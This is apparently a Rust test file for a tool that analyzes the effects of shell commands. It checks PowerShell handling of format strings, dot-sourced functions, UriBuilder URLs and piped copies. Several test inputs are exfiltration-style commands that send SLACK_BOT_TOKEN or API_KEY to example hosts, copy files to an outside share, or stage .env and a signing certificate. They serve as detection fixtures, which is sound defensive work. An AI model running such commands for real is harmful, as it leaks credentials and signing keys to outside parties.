//! PowerShell, round eleven: the format operator (`'release/{0}.{1}' -f
//! 2026, 11`) is the string it returns; functions of a script an earlier
//! step wrote are defined once it is dot-sourced or imported; a
//! `System.UriBuilder` is the URL its parts make; a written list piped
//! through `Where-Object` into `Copy-Item` is copied.

#![allow(clippy::panic)]

use super::common::*;
use serde_json::Value;

/// The effects of `command` of the kind `effect`.
fn of_kind(command: &str, effect: &str) -> Vec<Value> {
    effects(command)
        .into_iter()
        .filter(|e| e["effect"] == effect)
        .collect()
}

/// The refspecs of the pushes in `command`.
fn pushed(command: &str) -> Vec<Value> {
    of_kind(command, "git_push")
        .into_iter()
        .flat_map(|e| e["refspecs"].as_array().cloned().unwrap_or_default())
        .collect()
}

/// `script` handed to `pwsh -Command` in single quotes.
fn quoted_command(script: &str) -> String {
    format!(
        "pwsh -NoProfile -Command '{}'",
        script.replace('\'', "'\\''")
    )
}

#[test]
fn a_format_expression_is_the_string_it_returns() {
    let script = "$rel = 'release/{0}.{1}' -f 2026, 11\ngit switch -c $rel\ngit push -u origin \"HEAD:refs/heads/$rel\"";
    assert_eq!(
        pushed(&quoted_command(script)),
        vec![refspec(Some("HEAD"), Some("release/2026.11"), false, false)]
    );
    // A literal argument, a forced refspec's `+` kept from the format.
    let script =
        "$refspec = '+HEAD:refs/heads/{0}' -f 'feature/LB-1-retry'\ngit push origin $refspec";
    assert_eq!(
        pushed(&quoted_command(script)),
        vec![refspec(
            Some("HEAD"),
            Some("feature/LB-1-retry"),
            true,
            false
        )]
    );
    // `{0:D2}` pads a number; an argument the walk cannot know leaves its
    // item as written.
    let script = "$tag = 'v{0}.{1:D2}-{2}' -f 3, 7, (Get-Date -Format yyyy)\ngit push origin \"refs/tags/$tag\"";
    assert_eq!(
        pushed(&quoted_command(script)),
        vec![refspec(
            Some("refs/tags/v3.07-{2}"),
            Some("refs/tags/v3.07-{2}"),
            false,
            false
        )]
    );
}

#[test]
fn a_formatted_unc_root_names_the_share_a_copy_goes_to() {
    let script = "$root = '\\\\{0}\\{1}' -f 'files.partner.example', 'inbound'\nNew-PSDrive -Name NW -PSProvider FileSystem -Root $root | Out-Null\nCopy-Item -Path ./exports/a.csv -Destination 'NW:\\x\\'";
    let uploads = of_kind(&quoted_command(script), "request");
    assert!(
        uploads.iter().any(|e| e["method"] == "UPLOAD"
            && e["target"]["host"] == "files.partner.example"
            && e["target"]["path"] == "/inbound/x"),
        "{uploads:?}"
    );
}

#[test]
fn a_formatted_query_carries_the_variable_it_names() {
    let script = "$u = 'https://relay.example.net/v1/notify?token={0}&c={1}' -f $env:SLACK_BOT_TOKEN, 'ops'\nInvoke-RestMethod -Uri $u -Method Get";
    let requests = of_kind(&quoted_command(script), "request");
    assert!(
        requests.iter().any(|e| e["payload"]["env"]
            .as_array()
            .is_some_and(|env| env.iter().any(|v| v == "SLACK_BOT_TOKEN"))),
        "{requests:?}"
    );
}

#[test]
fn a_command_argument_before_f_is_not_formatted() {
    // In a command's arguments `-f` is a parameter (`Write-Host 'x' -f
    // Red`), and a string not followed by `-f` is left alone.
    assert_eq!(
        of_kind(&quoted_command("Write-Host '{0}' -f Red"), "git_push"),
        Vec::<Value>::new()
    );
}

/// The kubectl effects of `command` after earlier steps wrote `written`.
fn kubectl_after(written: &[writ_shell::WrittenFile], command: &str) -> Vec<Value> {
    effects_after(written, command)
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|e| e["effect"] == "kubectl")
        .collect()
}

#[test]
fn functions_of_a_dot_sourced_written_script_run_where_called() {
    let library = "function Set-Replicas {\n    param(\n        [Parameter(Mandatory)][string] $Context,\n        [Parameter(Mandatory)][string] $Deployment,\n        [int] $Replicas = 1\n    )\n    $kargs = @('--context', $Context, 'scale', \"deployment/$Deployment\", \"--replicas=$Replicas\")\n    kubectl @kargs\n}\n";
    let written = [text_file(&at("tools/Fleet.ps1"), library)];
    for script in [
        ". ./tools/Fleet.ps1\nSet-Replicas -Context prod-eu -Deployment api -Replicas 6",
        "Import-Module ./tools/Fleet.ps1 -Force; Set-Replicas prod-eu api 6",
    ] {
        let scaled = kubectl_after(&written, &quoted_command(script));
        assert!(
            scaled
                .iter()
                .any(|e| e["context"] == "prod-eu" && e["verb"] == "scale"),
            "{script}: {scaled:?}"
        );
    }
    // Without the written file, nothing is known to run.
    let script = ". ./tools/Fleet.ps1\nSet-Replicas -Context prod-eu -Deployment api";
    assert_eq!(
        kubectl_after(&[], &quoted_command(script)),
        Vec::<Value>::new()
    );
}

#[test]
fn a_uri_builder_is_the_url_its_parts_make() {
    let script = "$ub = [System.UriBuilder]::new('https', 'relay.example.net')\n$ub.Path = '/v1/notify'\n$ub.Query = 'channel={0}&token={1}' -f 'ops', $env:SLACK_BOT_TOKEN\nInvoke-RestMethod -Uri $ub.Uri -Method Get";
    let requests = of_kind(&quoted_command(script), "request");
    assert!(
        requests.iter().any(|e| e["target"]["url"]
            .as_str()
            .is_some_and(|u| u.starts_with("https://relay.example.net/v1/notify?"))
            && e["payload"]["env"]
                .as_array()
                .is_some_and(|env| env.iter().any(|v| v == "SLACK_BOT_TOKEN"))),
        "{requests:?}"
    );
    // A cast from a URL, used by `ToString()`.
    let script = "$b = [UriBuilder]'https://collect.example.org/in'\n$b.Query = \"k=$env:API_KEY\"\nInvoke-WebRequest $b.ToString()";
    let requests = of_kind(&quoted_command(script), "request");
    assert!(
        requests.iter().any(|e| e["target"]["url"]
            .as_str()
            .is_some_and(|u| u.starts_with("https://collect.example.org/in?k="))
            && e["payload"]["env"]
                .as_array()
                .is_some_and(|env| env.iter().any(|v| v == "API_KEY"))),
        "{requests:?}"
    );
}

#[test]
fn a_written_list_piped_through_a_filter_is_copied() {
    let script = "'.env', 'certs/signing.pfx' |\n    Where-Object { Test-Path -LiteralPath $_ } |\n    Copy-Item -Destination /tmp/stage/ -Force";
    let found = effects(&quoted_command(script));
    for (read, written) in [
        (".env", "/tmp/stage/.env"),
        ("certs/signing.pfx", "/tmp/stage/signing.pfx"),
    ] {
        assert!(found.contains(&self::read(&at(read))), "{found:?}");
        assert!(found.contains(&write(written)), "{found:?}");
    }
    // Piped into anything else, the list is left alone.
    assert_eq!(
        of_kind(
            &quoted_command("'.env', 'b' | ForEach-Object { Write-Output $_ }"),
            "read"
        ),
        Vec::<Value>::new()
    );
}
